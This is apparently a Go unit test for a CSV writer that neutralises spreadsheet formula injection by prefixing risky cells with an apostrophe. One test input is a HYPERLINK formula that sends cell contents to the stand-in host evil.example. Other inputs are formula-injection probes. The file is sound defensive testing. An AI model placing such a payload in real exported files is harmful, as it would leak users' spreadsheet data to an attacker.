package csvsafe

import (
	"bytes"
	"encoding/csv"
	"testing"
)

// Every cell a spreadsheet would run as a formula comes back as text when
// the CSV is read again; everything else is byte for byte what was written.
func TestCellsThatSpreadsheetsRunAreNeutralised(t *testing.T) {
	cases := []struct{ in, want string }{
		{`=HYPERLINK("http://evil.example/?"&A1,"click")`, `'=HYPERLINK("http://evil.example/?"&A1,"click")`},
		{"=1+2@example.com", "'=1+2@example.com"},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"+81 3 1234", "'+81 3 1234"},
		{"-2+3", "'-2+3"},
		{"\t=cmd", "'\t=cmd"},
		{"\r=cmd", "'\r=cmd"},
		{"  =1+1", "'  =1+1"},
		{"\u3000＝1+1", "'\u3000＝1+1"},
		{"＠SUM(A1)", "'＠SUM(A1)"},
		{"taro@example.com", "taro@example.com"},
		{"550 5.1.1 user unknown", "550 5.1.1 user unknown"},
		{"a=b", "a=b"},
		{"", ""},
		{"   ", "   "},
		{"山田 太郎", "山田 太郎"},
	}
	var buf bytes.Buffer
	w := NewWriter(&buf)
	for _, c := range cases {
		if err := w.Write([]string{c.in, "x"}); err != nil {
			t.Fatal(err)
		}
	}
	w.Flush()
	if err := w.Error(); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for i, c := range cases {
		if got := recs[i][0]; got != c.want {
			t.Errorf("%q: cell reads back as %q, want %q", c.in, got, c.want)
		}
	}
}

func TestWriteLeavesTheRecordAlone(t *testing.T) {
	rec := []string{"=x", "y"}
	w := NewWriter(&bytes.Buffer{})
	w.Write(rec)
	if rec[0] != "=x" {
		t.Errorf("the caller's record was changed: %q", rec)
	}
}
